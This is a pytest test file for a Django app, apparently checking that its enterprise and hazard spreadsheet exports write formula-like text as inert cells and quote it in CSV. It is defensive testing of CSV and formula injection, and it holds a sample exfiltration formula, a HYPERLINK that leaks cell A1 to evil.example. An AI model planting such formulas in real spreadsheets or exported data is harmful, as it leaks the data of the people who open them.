"""Exports never hand a spreadsheet program a formula: text that starts as one (=, +, -, @, a
tab, a carriage return) is a text cell showing the text itself in an .xlsx, and quoted in a
CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from redline.conftest import login
from redline.core.spreadsheet.formulas import FORMULA_START, quote_formula, text_cells
from redline.core.spreadsheet.writing import ChoiceLabels
from redline.hazards.models import Hazard
from redline.hazards.tests.factories import report, user
from redline.organisations.models import Enterprise

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


def cells_of(content: bytes, row: int) -> list:
    return list(load_workbook(io.BytesIO(content)).worksheets[0][row])


def inert(cell, text: str) -> bool:
    return (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_an_enterprise_named_as_a_formula_is_exported_as_text(client, world):
    unit = world.orgs["ent"].arg
    Enterprise.objects.filter(pk=unit).update(name=LINK, address="@SUM(1+1)")
    login(client, "cityhall-viewer")
    content = client.get(reverse("enterprise-export-xlsx")).content
    rows = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
    (found,) = [r for r in rows if r[0].value == unit]
    assert inert(found[1], LINK) and inert(found[7], "@SUM(1+1)")
    assert not any(c.data_type == "f" for r in rows for c in r)
    # CSV has no cell types: the text is quoted (and read back without the quote).
    text = b"".join(client.get(reverse("enterprise-export-csv")).streaming_content)
    lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    (line,) = [ln for ln in lines if ln[0] == str(unit)]
    assert line[1] == "'" + LINK and line[7] == "'@SUM(1+1)"


def test_a_hazard_named_as_a_formula_is_exported_as_text(client, world):
    made = report(user("ent-operator"), world.orgs["ent"].arg, level="major")
    Hazard.objects.filter(pk=made.pk).update(name=LINK, description="-1+2")
    login(client, "cityhall-viewer")
    content = client.get(reverse("hazard-export")).content
    rows = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
    by_text = {c.value: c for r in rows for c in r if isinstance(c.value, str)}
    assert inert(by_text[LINK], LINK) and inert(by_text["-1+2"], "-1+2")
    assert not any(c.data_type == "f" for r in rows for c in r)


@pytest.mark.parametrize("start", FORMULA_START)
def test_each_formula_start_is_written_as_text(start):
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        text = f"{start}1+1"
        sheet.append(text_cells(sheet, [text, quote_formula(text), "plain", 3]))
        buffer = io.BytesIO()
        book.save(buffer)
        first, quoted, plain, number = cells_of(buffer.getvalue(), 1)
        assert inert(first, text) and inert(quoted, text)
        assert (plain.value, plain.data_type, plain.quotePrefix) == ("plain", "s", False)
        assert (number.value, number.data_type) == (3, "n")


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_choice_labels_are_the_display_of_every_choice_and_the_value_itself_otherwise(language):
    fields = ("sector", "level", "hazard_type", "source", "state")
    with translation.override(language):
        shown = ChoiceLabels(Hazard, *fields)
        for name in fields:
            for value, _label in Hazard._meta.get_field(name).flatchoices:
                hazard = Hazard(**{name: value})
                assert shown(hazard, name) == getattr(hazard, f"get_{name}_display")()
        odd = Hazard(state="no-such-state")
        assert shown(odd, "state") == odd.get_state_display() == "no-such-state"
